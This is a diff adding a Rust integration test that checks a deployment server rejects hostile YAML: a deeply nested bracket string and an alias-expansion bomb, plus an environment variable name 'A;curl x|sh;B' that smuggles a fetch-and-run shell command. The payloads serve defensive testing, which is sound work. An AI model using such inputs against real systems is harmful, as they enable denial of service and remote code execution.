@@ -314,3 +314,73 @@ async fn a_builds_release_env_is_the_first_layer() {
     assert_eq!(src("GREETING"), Some(Layer::Build));
     assert_eq!(src("WORKERS"), Some(Layer::Own));
 }
+
+#[tokio::test]
+async fn hostile_yaml_is_refused_at_once() {
+    let server = fleet_server().await;
+    let api = server.admin().await;
+    add_app(&api, "shop", &shell_app()).await;
+    let b = upload(&server, &api, "ci-1").await;
+    let deep = format!("x: {}{}\n", "[".repeat(100_000), "]".repeat(100_000));
+    let items = vec!["x"; 1000].join(",");
+    let aliases = vec!["*a"; 1000].join(",");
+    let bomb = format!("a: &a [{items}]\nb: [{aliases}]\n");
+    for (name, text) in [("deep", deep), ("aliases", bomb)] {
+        let started = std::time::Instant::now();
+        let err = api
+            .post(
+                paths::RELEASE_PREVIEW,
+                &NewRelease {
+                    build_id: b.id,
+                    settings_yaml: text.clone(),
+                    ..Default::default()
+                },
+            )
+            .await
+            .expect_status(400)
+            .error();
+        assert_eq!(
+            err.field.as_deref(),
+            Some("settings_yaml"),
+            "{name}: {err:?}"
+        );
+        // The server stayed responsive meanwhile.
+        api.get("/api/health").await.expect_ok();
+        eprintln!("{name} refused in {:?}: {}", started.elapsed(), err.message);
+        let err = api
+            .post(
+                paths::INGREDIENTS,
+                &NewIngredient {
+                    name: format!("i{name}"),
+                    settings_yaml: text,
+                    ..Default::default()
+                },
+            )
+            .await
+            .expect_status(400)
+            .error();
+        assert_eq!(
+            err.field.as_deref(),
+            Some("settings_yaml"),
+            "{name}: {err:?}"
+        );
+    }
+    // Env names that are not shell identifiers never reach a host.
+    let err = api
+        .post(
+            paths::RELEASE_PREVIEW,
+            &NewRelease {
+                build_id: b.id,
+                env_yaml: "\"A;curl x|sh;B\": v\n".into(),
+                ..Default::default()
+            },
+        )
+        .await
+        .expect_status(400)
+        .error();
+    assert_eq!(err.field.as_deref(), Some("env_yaml"), "{err:?}");
+    assert!(
+        err.message.contains("not an environment variable name"),
+        "{err:?}"
+    );
+}
